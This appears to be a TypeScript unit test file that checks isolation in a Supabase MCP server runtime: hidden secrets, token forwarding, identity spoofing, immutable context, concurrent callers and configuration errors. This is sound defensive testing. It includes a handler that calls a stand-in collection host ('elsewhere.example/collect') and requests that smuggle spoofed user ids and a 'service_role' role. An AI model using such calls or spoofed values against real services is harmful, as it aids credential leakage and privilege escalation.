// tests/unit/app/isolation.test.ts — what a handler can reach, and that no caller meets another.
import { inspect } from 'node:util'

import { describe, expect, it } from 'vitest'
import { z } from 'zod'

import { defineTool, textResult, type SupabaseMcpContext } from '../../../runtime/index.ts'
import {
  alice,
  bob,
  createProject,
  endpoint,
  errorOf,
  legacyMessage,
  read,
  secretKey,
  type Sending,
} from './project.ts'

const nothing = z.object({})

/** Everything reachable from a value: own and inherited properties, symbols, getters, maps, sets and prototypes. */
function textsReachableFrom(root: unknown): string[] {
  const texts: string[] = []
  const seen = new Set<unknown>()
  const queue: unknown[] = [root]
  const take = (value: unknown) => {
    if (typeof value === 'string') texts.push(value)
    else if ((typeof value === 'object' && value !== null) || typeof value === 'function') queue.push(value)
  }
  while (queue.length > 0 && seen.size < 200_000) {
    const value = queue.pop()
    if (seen.has(value) || value === globalThis || value === process) continue
    seen.add(value)
    if (value instanceof Map || value instanceof Headers) for (const pair of value) pair.forEach(take)
    if (value instanceof Set) value.forEach(take)
    for (const key of Reflect.ownKeys(value as object)) {
      take(typeof key === 'symbol' ? key.description : key)
      try {
        take(Reflect.get(value as object, key))
      } catch {
        // A getter of the platform that wants another receiver.
      }
    }
    take(Reflect.getPrototypeOf(value as object))
  }
  return texts
}

describe('a handler', () => {
  it('cannot reach the secret key or the raw token', async () => {
    const project = await createProject()
    const token = await project.sign()
    const reached: string[] = []
    const look = (ctx: SupabaseMcpContext, official: unknown) => {
      void ctx.supabase.from('notes').select()
      for (const root of [ctx, ctx.supabase, ctx.request, official]) {
        reached.push(...textsReachableFrom(root), inspect(root, { depth: 20, showHidden: true }))
      }
      reached.push(JSON.stringify({ ...ctx, supabase: null }))
      return textResult('')
    }
    const app = project.start({
      context: { extend: () => ({ tenant: 'acme' }) },
      register(server, ctx) {
        server.registerTool('look', { inputSchema: nothing }, (_args, official) => look(ctx, official))
      },
    })
    const call = { name: 'look', arguments: {} }
    const headers = { apikey: 'sb_publishable_sent', Cookie: 'session=private' }

    await project.modern(app, 'tools/call', call, { token, headers })
    await project.post(app, legacyMessage('tools/call', call), { token, headers })

    const [, payload = '', signature = ''] = token.split('.')
    expect(project.failures).toEqual([])
    expect(reached.length).toBeGreaterThan(500)
    // The walk sees what is there: the caller's own claims, and the public key of the project.
    expect(reached).toContain(alice)
    expect(reached).toContain('sb_publishable_test')
    for (const secret of [secretKey, token, payload, signature, 'sb_publishable_sent', 'session=private'])
      expect(reached.filter((text) => text.includes(secret)).map((text) => text.slice(0, 200))).toEqual([])
  })

  it('asks the project as its caller, and sends the token nowhere else', async () => {
    const sent: Request[] = []
    const project = await createProject()
    project.serve = (request) => {
      sent.push(request)
      return Response.json([])
    }
    const token = await project.sign()
    const ask = defineTool(
      { name: 'ask', description: 'Asks.', inputSchema: nothing },
      async (_args, { supabase }) => {
        await supabase.from('notes').select()
        const { rest } = supabase as unknown as { rest: { fetch: typeof fetch } }
        await rest.fetch('https://elsewhere.example/collect')
        return textResult('')
      },
    )

    await project.modern(
      project.start({ tools: [ask] }),
      'tools/call',
      { name: 'ask', arguments: {} },
      { token },
    )

    const received = sent.map(
      ({ url, headers }) => [new URL(url).origin, headers.get('authorization')] as const,
    )
    expect(received[0]).toEqual(['https://project.example', `Bearer ${token}`])
    // The publishable key is public.
    expect(received[1]).toEqual(['https://elsewhere.example', 'Bearer sb_publishable_test'])
    expect(sent[0]?.headers.get('apikey')).toBe('sb_publishable_test')
  })

  it('learns who calls from the token alone', async () => {
    const project = await createProject()
    let seen: SupabaseMcpContext | undefined
    const who = defineTool(
      { name: 'who', description: 'Who.', inputSchema: z.looseObject({}) },
      (_args, ctx) => {
        seen = ctx
        return textResult('')
      },
    )
    const app = project.start({ tools: [who] })

    await project.modern(
      app,
      'tools/call',
      {
        name: 'who',
        arguments: { user_id: bob, p_user_id: bob, owner: bob, role: 'service_role' },
        _meta: { sub: bob },
      },
      { headers: { 'X-User-Id': bob, 'X-Client-Id': bob, 'X-Forwarded-User': bob } },
    )

    expect(seen?.user).toEqual({ id: alice, email: 'alice@example.test' })
    expect(seen?.principal).toMatchObject({
      subject: alice,
      authentication: { mode: 'oauth', strategy: 'oauth' },
    })
    const facts = project.database.trips[0]?.body['request'] as Record<string, unknown>
    expect(facts).toMatchObject({ subject: alice, user_id: alice, role: 'authenticated' })
    expect(JSON.stringify(facts)).not.toContain(bob)
    expect(JSON.stringify(facts)).not.toContain('service_role')
  })

  it('cannot change its context', async () => {
    const project = await createProject()
    const attempts: string[] = []
    const app = project.start({
      context: { extend: () => ({ tenant: 'acme' }) },
      register(server, ctx) {
        server.registerTool('change', { inputSchema: nothing }, () => {
          for (const [name, change] of Object.entries({
            user: () => Object.assign(ctx, { user: { id: bob } }),
            scopes: () => (ctx.scopes as string[]).push('admin'),
            extra: () => Object.assign(ctx.extra, { tenant: 'other' }),
          })) {
            try {
              change()
              attempts.push(`${name} changed`)
            } catch {
              attempts.push(`${name} kept`)
            }
          }
          return textResult(JSON.stringify([ctx.user.id, ctx.scopes, ctx.extra, ctx.hasScope('admin')]))
        })
      },
    })

    const answer = await read(await project.modern(app, 'tools/call', { name: 'change', arguments: {} }))

    expect(attempts).toEqual(['user kept', 'scopes kept', 'extra kept'])
    expect(JSON.parse(answer.result?.content?.[0]?.text ?? '')).toEqual([
      alice,
      [],
      { tenant: 'acme' },
      false,
    ])
  })

  it('has its caller in every way a context is asked', async () => {
    const project = await createProject()
    project.database.scopesOf = () => ['read', 'write']
    const app = project.start({
      context: { extend: async (ctx) => ({ greeting: `Hello ${ctx.user.email}` }) },
      register(server, ctx) {
        server.registerTool('ask', { inputSchema: nothing }, () => {
          const { extra, clientId, jwtClaims, traceId, scopes, request } = ctx
          return textResult(
            JSON.stringify({
              one: ctx.hasScope('read'),
              none: ctx.hasScope('admin'),
              all: ctx.hasScopes(['read', 'write']),
              some: ctx.hasScopes(['read', 'admin']),
              extra,
              clientId,
              role: jwtClaims['role'],
              isTraced: traceId.length === 36,
              scopes,
              url: request.url,
              hasSql: 'sql' in ctx,
            }),
          )
        })
      },
    })

    const answer = await read(await project.modern(app, 'tools/call', { name: 'ask', arguments: {} }))

    expect(JSON.parse(answer.result?.content?.[0]?.text ?? '')).toEqual({
      one: true,
      none: false,
      all: true,
      some: false,
      extra: { greeting: 'Hello alice@example.test' },
      clientId: 'c11e0000-0000-4000-8000-000000000001',
      role: 'authenticated',
      isTraced: true,
      scopes: ['read', 'write'],
      url: endpoint,
      hasSql: false,
    })
  })
})

describe('callers at the same time', () => {
  const whoami = defineTool(
    { name: 'whoami', description: 'Who.', inputSchema: z.object({ wait: z.number() }) },
    async ({ wait }, ctx) => {
      await new Promise((resolve) => setTimeout(resolve, wait))
      return textResult(ctx.user.id)
    },
  )

  it.each([
    ['the number 1', 1],
    ['zero', 0],
    ['a string', '1'],
    ['a large number', 9007199254740991],
    ['an empty string', ''],
  ])('with the same id, %s, each get their own answer', async (_label, id) => {
    const project = await createProject([
      { name: 'whoami-sql', run: ({ facts }) => JSON.stringify({ result: facts['subject'] }) },
    ])
    const app = project.start({ tools: [whoami] })
    const tokens: Record<string, string> = {
      [alice]: await project.sign(alice),
      [bob]: await project.sign(bob),
    }

    const answers = await Promise.all(
      Array.from({ length: 200 }, async (_, index) => {
        const subject = index % 2 === 0 ? alice : bob
        const sending: Sending = { token: tokens[subject] ?? null }
        const name = index % 3 === 0 ? 'whoami-sql' : 'whoami'
        const message = legacyMessage('tools/call', { name, arguments: { wait: (index * 7) % 20 } }, id)
        const answer = await read(await project.post(app, message, sending))
        return { subject, id: answer.id, said: answer.result?.content?.[0]?.text }
      }),
    )

    for (const { subject, id: answered, said } of answers) {
      expect(answered).toBe(id)
      expect(said).toContain(subject)
    }
    expect(answers).toHaveLength(200)
  })

  it('are untouched by those who hang up', async () => {
    let ran = 0
    const counted = defineTool(whoami.definition, (args, ctx) => {
      ran += 1
      return whoami.handler(args, ctx)
    })
    const project = await createProject()
    const app = project.start({ tools: [counted] })
    const tokens: Record<string, string> = {
      [alice]: await project.sign(alice),
      [bob]: await project.sign(bob),
    }

    const seen = await Promise.all(
      Array.from({ length: 60 }, async (_, index) => {
        const subject = index % 2 === 0 ? alice : bob
        const controller = new AbortController()
        const params = { name: 'whoami', arguments: { wait: 10 + (index % 7) } }
        const answer = project
          .modern(app, 'tools/call', params, { token: tokens[subject] ?? null, signal: controller.signal })
          .then(read)
        if (index % 6 === 0) {
          setTimeout(() => controller.abort(), 5)
          await Promise.race([answer.catch(() => {}), new Promise((resolve) => setTimeout(resolve, 200))])
          return 'hung up'
        }
        return (await answer).result?.content?.[0]?.text === subject ? 'right' : 'wrong'
      }),
    )

    expect(seen.filter((outcome) => outcome === 'right')).toHaveLength(50)
    expect(seen).not.toContain('wrong')
    const after = await read(
      await project.modern(app, 'tools/call', { name: 'whoami', arguments: { wait: 0 } }),
    )
    expect(after.result?.content?.[0]?.text).toBe(alice)
    await app.close()
    // A call whose caller left before it began was never run; every other is written down as what it was.
    const outcomes = project.database.finished.map(({ outcome }) => outcome)
    expect(outcomes).toHaveLength(61)
    expect(outcomes.filter((outcome) => outcome === 'ok')).toHaveLength(ran)
    expect(outcomes.filter((outcome) => outcome === 'refused')).toHaveLength(61 - ran)
  })
})

describe('a sink of the application', () => {
  it.each([
    [
      'throws',
      () => {
        throw new Error('sink')
      },
    ],
    [
      'rejects',
      async () => {
        throw new Error('sink')
      },
    ],
  ])('that %s changes no answer', async (_label, sink: () => void) => {
    const rejections: unknown[] = []
    const note = (error: unknown) => rejections.push(error)
    process.on('unhandledRejection', note)
    const failing = defineTool({ name: 'fail', description: 'Fails.', inputSchema: nothing }, () => {
      throw new Error('handler')
    })
    const project = await createProject()
    const app = project.start({ tools: [failing], onError: sink, onEvent: sink })

    const called = await project.modern(app, 'tools/call', { name: 'fail', arguments: {} })
    const refused = await project.modern(app, 'tools/list', {}, { token: 'forged' })

    expect(errorOf(await read(called))).toMatchObject({ code: 'tool_failed' })
    expect(refused.status).toBe(401)
    await new Promise((resolve) => setTimeout(resolve, 20))
    process.off('unhandledRejection', note)
    expect(rejections).toEqual([])
  })
})

describe('a mistake in the configuration', () => {
  const start = async (env: Record<string, string | undefined>, more: object = {}) => {
    const project = await createProject()
    const complete = {
      SUPABASE_URL: 'https://project.example',
      SUPABASE_SECRET_KEYS: '{"default":"sb_secret_x"}',
      SUPABASE_PUBLISHABLE_KEYS: '{"default":"sb_publishable_x"}',
    }
    return () => project.start({ env: { ...complete, ...env }, ...more })
  }

  it.each([
    [{ SUPABASE_URL: undefined }, /SUPABASE_URL/],
    [{ SUPABASE_URL: 'ftp://x' }, /SUPABASE_URL/],
    [{ SUPABASE_SECRET_KEYS: '{' }, /SUPABASE_SECRET_KEYS/],
    [{ CHUMBO_DB_URL: 'mysql://x' }, /CHUMBO_DB_URL/],
    [{ CHUMBO_DB_URL: 'postgres://login:private@host:port/db' }, /CHUMBO_DB_URL/],
    [{ CHUMBO_HMAC_KEY: 'short' }, /CHUMBO_HMAC_KEY/],
  ])('is named when the endpoint is built: %j', async (env, name) => {
    const build = await start(env)

    expect(build).toThrow(name)
    expect(build).not.toThrow(/private/)
  })

  it('names what the gate lacks', async () => {
    const withoutKey = await start({ SUPABASE_SECRET_KEYS: undefined })
    const withoutLogin = await start({}, { gate: 'direct' })
    const elsewhere = await start({}, { resourceUrl: 'http://x.example/mcp' })

    expect(withoutKey).toThrow(
      expect.objectContaining({ hint: expect.stringMatching(/SUPABASE_SECRET_KEYS/) as string }),
    )
    expect(withoutLogin).toThrow(
      expect.objectContaining({ hint: expect.stringMatching(/CHUMBO_DB_URL/) as string }),
    )
    expect(elsewhere).toThrow(/resourceUrl/)
  })
})

describe('an endpoint that closes', () => {
  it('first sends the receipts that wait', async () => {
    const project = await createProject()
    const app = project.start({
      tools: [
        defineTool({ name: 'note', description: 'Notes.', inputSchema: nothing }, () => textResult('')),
      ],
    })
    await Promise.all(
      Array.from({ length: 5 }, () => project.modern(app, 'tools/call', { name: 'note', arguments: {} })),
    )

    await app.close()

    expect(project.database.finished).toHaveLength(5)
    expect(new Set(project.database.finished.map(({ id }) => id)).size).toBe(5)
  })
})
